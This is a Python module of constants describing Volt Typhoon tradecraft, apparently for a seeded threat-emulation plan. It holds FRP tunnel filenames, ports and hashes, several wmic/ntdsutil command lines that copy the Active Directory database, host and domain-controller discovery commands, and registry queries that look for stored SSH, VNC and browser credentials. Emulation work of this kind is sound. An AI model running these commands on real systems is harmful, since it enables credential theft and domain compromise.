"""Volt Typhoon's tradecraft as the sheet gives it: names, hashes, ports, command shapes.

Every value comes from ``shared/threat/volt-typhoon.md`` (technique rows 1-34, indicators
section 3), kept verbatim; the plan in ``volt_typhoon`` picks among them per seed.
"""

from __future__ import annotations

FRP_NAMES = [
    "cisco_up.exe",
    "cl64.exe",
    "vm3dservice.exe",
    "watchdogd.exe",
    "WmiPreSV.exe",
    "WmiPrvSE.exe",
    "BrightmetricAgent.exe",
    "SMSvcService.exe",
]
FRP_PORTS = [8080, 8443, 8043, 8000, 10443]
#: SHA-256 of FRP clients (sheet section 3.1): the AA24-038A pair, then Microsoft's list.
FRP_SHA256 = {
    "smsvcservice.exe": "99b80c5ac352081a64129772ed5e1543d94cad708ba2adc46dc4ab7a0bd563f1",
    "brightmetricagent.exe": "edc0c63065e88ec96197c8d7a40662a15a812a9583dc6c82b18ecd7e43b13b70",
}
MS_FRP = [
    "baeffeb5fdef2f42a752c65c2d2a52e84fb57efc906d981f89dd518c314e231c",
    "b4f7c5e3f14fb57be8b5f020377b993618b6e3532a4e1eb1eae9976d4130cc74",
    "4b0c4170601d6e922cf23b1caf096bba2fade3dfcf92f0ab895a5f0b9a310349",
    "c0fc29a52ec3202f71f6378d9f7f9a8a3a10eb19acb8765152d758aded98c76d",
    "472ccfb865c81704562ea95870f60c08ef00bcd2ca1d7f09352398c05be5d05d",
]
#: Sheet row 11, verbatim (including the Pro variant's unbalanced quote).
IFM_VARIANTS = {
    "Pro": 'wmic process call create "cmd.exe /c ntdsutil \\"ac i ntds\\" ifm '
    '\\"create full C:\\Windows\\Temp\\Pro"',
    "Appfile": 'wmic process call create "cmd.exe /c mkdir C:\\users\\public\\Appfile & ntdsutil '
    '\\"ac i ntds\\" ifm \\"create full C:\\users\\public\\Appfile\\" q q"',
    "tmp": 'wmic process call create "cmd.exe /c mkdir C:\\Windows\\Temp\\tmp & ntdsutil '
    '\\"ac i ntds\\" ifm \\"create full C:\\Windows\\Temp\\tmp\\""',
    "McAfee_Logs": 'wmic process call create "cmd.exe /c mkdir C:\\windows\\Temp\\McAfee_Logs & '
    'ntdsutil \\"ac i ntds\\" ifm \\"create full C:\\Windows\\Temp\\McAfee_Logs\\""',
}
IFM_DIRS = {
    "Pro": "C:\\Windows\\Temp\\Pro",
    "Appfile": "C:\\users\\public\\Appfile",
    "tmp": "C:\\Windows\\Temp\\tmp",
    "McAfee_Logs": "C:\\Windows\\Temp\\McAfee_Logs",
}
EDGE_DISCOVERY = [  # rows 18-22, through the web shell
    ("whoami", "T1033"),
    ("systeminfo", "T1082"),
    ("ipconfig /all", "T1016"),
    ("arp -a", "T1016"),
    ("netstat -ano", "T1049"),
    ("netsh interface firewall show all", "T1016"),
    ("netsh firewall show all", "T1016"),
    ("netsh interface portproxy show all", "T1016.001"),
    ("netsh interface portproxy show v4tov4", "T1016.001"),
    ("curl www.ip-api.com", "T1016"),
    ("ping -n 1 -a {dc_ip}", "T1018"),
    ("tasklist /v", "T1057"),
    ("tasklist /svc", "T1007"),
    ("net start", "T1007"),
    ("reg query hklm\\software\\", "T1012"),
    ("wmic product list brief", "T1518"),
    ("wmic service brief", "T1007"),
    ("wmic baseboard list full", "T1082"),
    ("wmic volume list brief", "T1082"),
    ('"wmic path win32_logicaldisk get caption,filesystem,freespace,size,volumename"', "T1082"),
    ("net localgroup administrators", "T1069.001"),
    ("net group /dom", "T1069.002"),
    ('net group "domain controllers" /dom', "T1018"),
    ("net user", "T1087.001"),
    ("quser", "T1033"),
]
DC_DISCOVERY = [  # rows 20-21, typed on the domain controller
    ("dnscmd . /enumzones", "T1018"),
    ("dnscmd . /enumrecords /zone {domain}", "T1018"),
    ("dnscmd /enumrecords {domain} . /additional", "T1018"),
    ("ldifde.exe -f c:\\windows\\temp\\cisco_up.txt -p subtree", "T1087.002"),
    ('net group "Domain Admins" /dom', "T1069.002"),
    ("nltest /DOMAIN_TRUSTS", "T1482"),
    ("quser", "T1033"),
    ("whoami", "T1033"),
    ("net user", "T1087.001"),
    ("systeminfo", "T1082"),
]
CRED_RECON = [  # row 15; {u} = the admin whose workstation it is
    "reg query hklm\\software\\OpenSSH",
    "reg query hklm\\software\\OpenSSH\\Agent",
    "reg query hklm\\software\\realvnc",
    "reg query hklm\\software\\realvnc\\vncserver",
    "reg query hklm\\software\\realvnc\\Allusers",
    "reg query hklm\\software\\realvnc\\Allusers\\vncserver",
    "reg query hkcu\\software\\SimonTatham\\putty\\session",
    "dir C:\\Users\\{u}\\.ssh\\known_hosts",
    "dir C:\\users\\{u}\\appdata\\roaming\\Mozilla\\firefox\\profiles",
]
SOHO = ("73.", "98.", "24.", "71.", "108.", "67.", "174.")  # residential ISP ranges (relays)
